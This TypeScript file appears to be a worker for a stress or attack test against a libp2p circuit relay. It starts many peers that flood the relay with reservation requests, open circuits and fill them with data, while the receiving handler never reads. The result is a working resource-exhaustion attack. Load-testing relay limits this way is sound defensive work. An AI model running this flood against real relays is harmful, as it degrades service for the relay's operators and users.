import { setTimeout as delay } from 'node:timers/promises'
import { yamux } from '@chainsafe/libp2p-yamux'
import { RELAY_V2_STOP_CODEC } from '@libp2p/circuit-relay-v2'
import { identify } from '@libp2p/identify'
import type { Connection, Libp2p, Stream } from '@libp2p/interface'
import { noise } from '@libp2p/noise'
import { tcp } from '@libp2p/tcp'
import { lpStream } from '@libp2p/utils'
import { multiaddr } from '@multiformats/multiaddr'
import { createLibp2p } from 'libp2p'
import type { Answers, AttackAnswers, RelayAttack, RelayCrowd, StrangersCommand } from './relay-crowd.ts'
import { askRelay, connectTo, RESERVE, STATUS, STOP_OK } from './relay-requests.ts'

// node relay-strangers.ts, forked: it ends with the process that did that
const CALLERS = 20
const AT_ONCE = 16
const CHUNK_BYTES = 16 << 10
/** A relay that is asked by so many at once may take its time. */
const ANSWERED_WITHIN_MS = 60_000
/** Requests that were not answered. */
const NO_ANSWER = 0

interface Stranger {
  libp2p: Libp2p
  connection: Connection
  hasPlace: boolean
}

const strangers: Stranger[] = []

process.on('disconnect', () => process.exit())
process.on('message', async (command: StrangersCommand) => process.send?.(await obey(command)))

async function obey(command: StrangersCommand): Promise<unknown> {
  if (command.do === 'come') {
    return come(command)
  }
  if (command.do === 'attack') {
    return attack(command)
  }
  await Promise.all(strangers.splice(0).map(async ({ libp2p }) => libp2p.stop()))
  return 'left'
}

async function come({ address, kadProtocol, peers, hosts }: RelayCrowd): Promise<string> {
  const indexes = Array.from({ length: peers }, (_, index) => index).values()
  const work = async (): Promise<void> => {
    for (const index of indexes) {
      strangers.push(await comes(address, kadProtocol, hosts[index % hosts.length] ?? '127.0.0.1'))
    }
  }
  await Promise.all(Array.from({ length: AT_ONCE }, work))
  return 'here'
}

async function comes(address: string, kadProtocol: string | undefined, localAddress: string): Promise<Stranger> {
  // what goes to the socket as it is, typed or not
  const dialOpts: object = { localAddress }
  const libp2p = await createLibp2p({
    transports: [tcp({ dialOpts })],
    connectionEncrypters: [noise()],
    streamMuxers: [yamux()],
    connectionMonitor: { enabled: false },
    services: { identify: identify() },
  })
  await libp2p.handle(RELAY_V2_STOP_CODEC, takeCall, { maxInboundStreams: 1_000 })
  if (kadProtocol != null) {
    await libp2p.handle(kadProtocol, async (stream) => stream.close())
  }
  return { libp2p, connection: await libp2p.dial(multiaddr(address)), hasPlace: false }
}

/** Takes the call, and then reads nothing. */
async function takeCall(stream: Stream): Promise<void> {
  const messages = lpStream(stream)
  await messages.read()
  await messages.write(STOP_OK)
  messages.unwrap().pause()
}

async function attack({ reservations, circuits, spreadMs = 0, bytes = 0 }: RelayAttack): Promise<AttackAnswers> {
  const answers: AttackAnswers = { reservations: {}, circuits: {} }
  const startedMs = performance.now()
  const asked = strangers.map(async (stranger, index) => {
    for (let request = index; request < reservations; request += strangers.length) {
      await delay(Math.max(0, startedMs + (spreadMs * request) / reservations - performance.now()))
      const { status } = await ask(stranger, RESERVE, answers.reservations)
      stranger.hasPlace ||= status === STATUS.ok
    }
  })
  await Promise.all(asked)
  const callers = strangers.slice(-CALLERS)
  const seated = strangers.filter(({ hasPlace }) => hasPlace)
  const targets = seated.length > 0 ? seated : strangers
  const called = Array.from({ length: circuits }, async (_, index) => {
    const caller = callers[index % callers.length] as Stranger
    const others = targets.filter((target) => target !== caller)
    const { status, stream } = await ask(caller, connectTo((others[index % others.length] as Stranger).libp2p.peerId), answers.circuits)
    if (status === STATUS.ok && stream != null) {
      fill(stream, bytes)
    }
  })
  await Promise.all(called)
  return answers
}

async function ask({ connection }: Stranger, request: Uint8Array, answers: Answers): Promise<{ status: number; stream?: Stream }> {
  const asked = await askRelay(connection, request, ANSWERED_WITHIN_MS).catch(() => undefined)
  const status = asked?.answer.status ?? NO_ANSWER
  answers[status] = (answers[status] ?? 0) + 1
  return asked == null ? { status } : { status, stream: asked.stream }
}

/** Sends as much as is taken, up to so many bytes. */
function fill(stream: Stream, bytes: number): void {
  let left = bytes
  const more = (): void => {
    while (left > 0 && stream.writeStatus === 'writable') {
      left -= CHUNK_BYTES
      if (!stream.send(new Uint8Array(CHUNK_BYTES))) {
        return
      }
    }
  }
  stream.addEventListener('drain', more)
  more()
}
